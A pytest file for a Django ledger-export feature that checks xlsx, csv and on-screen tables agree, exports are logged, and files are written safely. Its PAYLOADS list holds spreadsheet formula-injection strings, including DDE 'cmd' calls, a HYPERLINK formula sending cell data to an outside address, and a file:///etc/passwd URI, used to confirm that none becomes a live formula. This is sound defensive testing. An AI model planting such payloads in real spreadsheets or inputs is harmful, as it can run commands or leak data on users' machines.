"""The files: cell by cell like the screen, never a formula, never a part of a file, flat in memory."""

import csv
import datetime as dt
import html
import io
import os
import re
import subprocess
import sys
import tempfile
import tracemalloc
from decimal import Decimal
from pathlib import Path
from urllib.parse import urlencode

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from audit.models import AccessLog
from ledgers.columns import CELL_LIMIT, COLUMNS, cut
from ledgers.files import LIVE, WRITERS, csv_cell, whole_or_nothing, write_csv, write_xlsx, write_xlsx_plain
from ledgers.month import Ledger, Month
from tests import factories as f

MARCH = Month(2026, 3)
PAYLOADS = [
    *(f"{lead}{sign}{tail}" for sign in "=+-@＝＋－＠" for lead, tail in (("", "1+1"), (" ", "A1"), ("\ufeff", "x"))),
    '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "{=1+1}",
    "=1+1\x01",
    "http://192.0.2.1/",
    "mailto:a@example.org",
    "file:///etc/passwd",
    "internal:Sheet1!A1",
    "_x003D_1+1",
    "&lt;&amp;</t></is></c>",
]


def fetch(client, user, *, format="xlsx", profile="default", **query):
    """The file that this person takes out of the ledger of March 2026, or the answer that refuses it."""
    client.force_login(user)
    asked = {"layout": profile, "format": format, "purpose": "report", "reason": "月报"}
    answer = client.post("/exports/new/?" + urlencode({"month": "2026-03", **query}), asked)
    return client.get(f"{answer['Location']}file/") if answer.status_code == 302 else answer


def without_mark(rows: list[list[str]]) -> list[list[str]]:
    """The rows above the watermark."""
    assert rows[-1][0].startswith("水印：") and not any(rows[-1][1:])
    return rows[:-1]


def body(answer) -> bytes:
    return b"".join(answer.streaming_content)


def written(write, columns, rows) -> bytes:
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.xlsx"
        write(path, columns, rows)
        return path.read_bytes()


def xlsx_texts(content: bytes) -> list[list[str]]:
    """The names of the columns and the rows as texts, by a reader that is not a sibling of the writer."""
    sheet = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0)
    rows = sheet.to_python()
    for (top, left), (bottom, right) in sheet.merged_cell_ranges or []:
        for line in range(top, bottom + 1):
            rows[line][left : right + 1] = [rows[top][left]] * (right + 1 - left)
    if sheet.merged_cell_ranges:  # the names stand below the merged cells
        del rows[0]
    shown = []
    for row in rows:
        shown.append([])
        for value in row:
            if isinstance(value, float):
                value = f"{value:,.2f}".removesuffix(".00")
            shown[-1].append(value.isoformat() if isinstance(value, dt.date) else str(value))
    return shown


def csv_texts(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf") and b"\r\n" in content
    rows = [
        [c[1:] if c.startswith("'") else c for c in row]
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    ]
    for row in rows[1:-1]:  # below stands the watermark
        for at, column in enumerate(COLUMNS):
            if row[at] and column.kind in ("money", "int"):
                row[at] = f"{Decimal(row[at]):,.2f}".removesuffix(".00")
    return rows


CELL = re.compile(r"<t[hd]([^>]*)>(.*?)</t[hd]>", re.S)


def grid(rows: list[str]) -> list[list[str]]:
    """The rows of a table as a reader sees them: a merged cell stands in every place that it covers."""
    shown: list[dict[int, str]] = [{} for _ in rows]
    for line, row in enumerate(rows):
        for attributes, text in CELL.findall(row):
            across, down = (
                int((re.search(rf'{name}="(\d+)"', attributes) or ("", 1))[1]) for name in ("colspan", "rowspan")
            )
            at = next(n for n in range(len(shown[line]) + 1) if n not in shown[line])
            for y in range(line, line + down):
                shown[y] |= dict.fromkeys(range(at, at + across), html.unescape(re.sub(r"<[^>]+>", "", text)))
    return [[cells[n] for n in sorted(cells)] for cells in shown]


def screen_texts(page: str) -> list[list[str]]:
    """The table of the page: the names of the columns, the rows, the sums."""
    table = re.search(r"<table>(.*?)</table>", page, re.S)[1]
    head, rest = table.split("</thead>")
    heads, rows = (grid(re.findall(r"<tr>(.*?)</tr>", part, re.S)) for part in (head, rest))
    return [heads[-1], *rows]


@pytest.fixture
def march(w):
    f.settled(w, people_count=3, amount=Decimal("12000.50"))
    f.register(w, amount=Decimal(84000), danger={"level": "orange", "reason": "情绪激动"})
    f.register(w, type_l1="01", type_l2="0101", narrative="马文林与王世昌为彩礼争吵。")
    f.register(w, narrative="=1+1\n第二行", found_on=dt.date(1899, 12, 31))


@pytest.mark.parametrize("who", ["assistant", "officer", "supervisor"])
def test_screen_xlsx_and_csv_show_the_same_cells(client, w, march, who):
    user = getattr(w, who)
    xlsx = without_mark(xlsx_texts(body(fetch(client, user))))
    assert len(xlsx) == 1 + 4 + 1 and all(len(row) == 22 for row in xlsx)
    assert without_mark(csv_texts(body(fetch(client, user, format="csv")))) == xlsx
    page = client.get("/ledger/", {"month": "2026-03"}).content.decode()
    assert screen_texts(page) == xlsx
    assert ("马文林" in str(xlsx)) == (who != "supervisor")


def test_conditions_hold_in_the_file(client, w, march):
    rows = without_mark(xlsx_texts(body(fetch(client, w.officer, status="done"))))
    assert len(rows) == 3 and rows[2][1] == "合计 1 件"
    assert fetch(client, w.officer, status="nonsense").status_code == 422
    assert fetch(client, w.officer, format="doc").status_code == 422
    assert fetch(client, w.officer, month="x").status_code == 422


def test_kinds_of_cells(client, w, march):
    sheet = openpyxl.load_workbook(io.BytesIO(body(fetch(client, w.officer)))).active
    assert sheet.freeze_panes == "C3"
    by_label = {cell.value: at for line in (1, 2) for at, cell in enumerate(sheet[line]) if cell.value}
    del by_label["当事人"], by_label["化解"]  # merged over several
    kinds = {label: sheet[3][by_label[label]].data_type for label in by_label}
    assert (kinds["序号"], kinds["排查日期"], kinds["涉及金额"], kinds["甲方电话"]) == ("n", "d", "n", "s")
    assert sheet[3][by_label["排查日期"]].number_format == "yyyy-mm-dd"


def test_the_name_of_the_file_names_nobody(client, w, march):
    header = fetch(client, w.officer)["Content-Disposition"]
    assert header.startswith("attachment; filename*=utf-8''") and header.endswith("-620623-2026-03.xlsx")


def test_the_log_knows_before_the_first_byte(client, w, march, monkeypatch):
    def fails(*args, **options):
        row = AccessLog.objects.get(action="export")
        told = {"month": "2026-03", "format": "xlsx", "status": "done", "rows": 1, "purpose": "report"}
        assert told.items() <= row.detail.items()
        assert (row.actor_id, row.county, row.address) == (w.officer.pk, "620623", "127.0.0.1")
        seen.append(row)
        raise OSError

    seen = []
    monkeypatch.setitem(WRITERS, "xlsx", fails)
    assert fetch(client, w.officer, status="done").status_code == 409
    assert len(seen) == 1 and not AccessLog.objects.filter(action="download").exists()


def test_no_text_field_becomes_a_formula(client, w):
    for payload in PAYLOADS:
        party = {"name": payload[:80], "alias": payload[:50]}
        case = f.register(
            w, narrative=payload, parties=[{**f.PARTY_A, **party}, {**f.PARTY_B, **party, "phone": "=1+1"}]
        )
        case.add_note(by=w.assistant, at=f.NOW, text=payload)
    content = body(fetch(client, w.officer))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert {cell.data_type for row in sheet for cell in row} <= {"s", "n", "d"}
    assert not any(cell.hyperlink for row in sheet for cell in row)
    at = [column.key for column in COLUMNS].index("narrative")
    assert [row[at] for row in xlsx_texts(content)[1:-2]] == PAYLOADS
    for row in csv.reader(io.StringIO(body(fetch(client, w.officer, format="csv")).decode("utf-8-sig"), newline="")):
        for column, text in zip(COLUMNS, row, strict=True):
            assert column.kind in ("money", "int") or not LIVE.match(text) or text.startswith("'")


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=60))
def test_csv_gives_back_every_text(text):
    column = COLUMNS[1]
    content = written(write_csv, [column], [[text]]).decode("utf-8-sig")
    ((_,), *rows) = csv.reader(io.StringIO(content, newline=""))
    back = rows[0][0] if rows and rows[0] else ""
    assert (back[1:] if back.startswith("'") else back) == text
    assert csv_cell(column, text)[:1] not in ("=", "+", "-", "@", "\t", "\r")


@given(
    st.lists(
        st.tuples(
            st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40),
            st.none() | st.dates(dt.date(1800, 1, 1), dt.date(2099, 12, 31)),
            st.none() | st.decimals(0, 10**9, places=2),
            st.none() | st.integers(0, 10**6),
        ),
        max_size=5,
    )
)
def test_both_writers_write_the_same_cells(rows):
    columns = [next(c for c in COLUMNS if c.key == key) for key in ("narrative", "found_on", "amount", "people")]
    rows = [*rows, ("合计", None, Decimal(1), 0)]
    found = []
    for write in (write_xlsx, write_xlsx_plain):
        sheet = openpyxl.load_workbook(io.BytesIO(written(write, columns, rows))).active
        found.append([[(cell.value, cell.data_type) for cell in row] for row in sheet])
    assert found[0] == found[1]


def test_a_text_longer_than_a_cell_is_cut_and_says_so():
    assert cut("字" * CELL_LIMIT) == "字" * CELL_LIMIT
    for long in ("字" * (CELL_LIMIT + 1), "😀" * (CELL_LIMIT // 2 + 1)):
        shown = cut(long)
        assert len(shown.encode("utf-16-le")) // 2 <= CELL_LIMIT and shown.endswith("全文见案件）")
        assert xlsx_texts(written(write_xlsx, [COLUMNS[13]], [[shown]]))[1] == [shown]


def test_a_file_appears_whole_or_not_at_all(tmp_path):
    path = tmp_path / "a.csv"
    with pytest.raises(ZeroDivisionError), whole_or_nothing(path) as part:
        part.write_bytes(b"half")
        assert not path.exists()
        raise ZeroDivisionError
    assert list(tmp_path.iterdir()) == []
    with whole_or_nothing(path) as part:
        part.write_bytes(b"all")
    assert path.read_bytes() == b"all" and path.stat().st_mode & 0o077 == 0


def test_the_command_writes_what_the_page_gives(client, w, march, tmp_path, capsys):
    path = tmp_path / "2026-03.xlsx"
    call_command("export_ledger", "--as", "supervisor", "--month", "2026-03", "--output", str(path))
    page = without_mark(xlsx_texts(body(fetch(client, w.supervisor))))
    assert without_mark(xlsx_texts(path.read_bytes())) == page
    assert AccessLog.objects.filter(action="export", actor_id=w.supervisor.pk).count() == 2
    office = ["--office", w.committee.code]
    call_command("export_ledger", "--as", "officer", "--month", "2026-03", *office, "--output", str(tmp_path / "o.csv"))
    assert len(csv_texts((tmp_path / "o.csv").read_bytes())) == 7
    assert "4 件" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("changed", "sentence"),
    [
        ({"--as": "nobody"}, "不看工作台账"),
        ({"--as": "ghost"}, "没有启用的账号"),
        ({"--month": "2026-13"}, "认不出月份"),
        ({"--office": "620623102201-V"}, "没有单位"),
        ({"--output": "x.doc"}, "只有 xlsx、csv 和 pdf"),
        ({"--output": "/nowhere/x.csv"}, "写不了"),
    ],
)
def test_the_command_refuses_in_a_sentence(w, tmp_path, monkeypatch, changed, sentence):
    monkeypatch.chdir(tmp_path)
    given = {"--as": "officer", "--month": "2026-03", "--output": "x.csv"} | changed
    with pytest.raises(CommandError, match=sentence):
        call_command("export_ledger", *[word for pair in given.items() for word in pair])
    assert list(tmp_path.iterdir()) == []


GROW = """
import os, resource, sys
os.environ["DJANGO_SETTINGS_MODULE"] = "tests.settings"
import django; django.setup()
import datetime as dt, tempfile
from pathlib import Path
from ledgers.columns import COLUMNS, cells
from ledgers.files import WRITERS
row = [n if c.kind == "int" else dt.date(2026, 3, 2) if c.kind == "date" else 1.5 if c.kind == "money" else "草场" * 20
       for n, c in enumerate(COLUMNS)]
with tempfile.NamedTemporaryFile() as file:
    WRITERS[sys.argv[1]](Path(file.name), COLUMNS, (list(row) for _ in range(int(sys.argv[2]))))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_memory_does_not_grow_with_the_rows_of_a_file(kind):
    """The writers alone, in a process of their own; the whole export is measured by make bench."""
    peaks = []
    for rows in (1_000, 30_000):
        run = subprocess.run(
            [sys.executable, "-c", GROW, kind, str(rows)],
            capture_output=True, text=True, check=True, cwd=Path(__file__).parents[2], env=os.environ,
        )  # fmt: skip
        peaks.append(int(run.stdout))
    assert peaks[1] < peaks[0] * 1.1, peaks


def test_memory_does_not_grow_with_the_rounds(w):
    """What the rows themselves hold at once: a chunk, whatever the length of the month."""
    for _ in range(12):
        f.register(w)
    ledger = Ledger(w.officer, MARCH)
    ids = list(ledger.all_ids())

    def peak(times):
        tracemalloc.start()
        for _row in ledger.rows(ids * times):
            pass
        top = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return top

    peak(100)
    assert peak(1_000) < peak(100) * 1.2 + 200_000
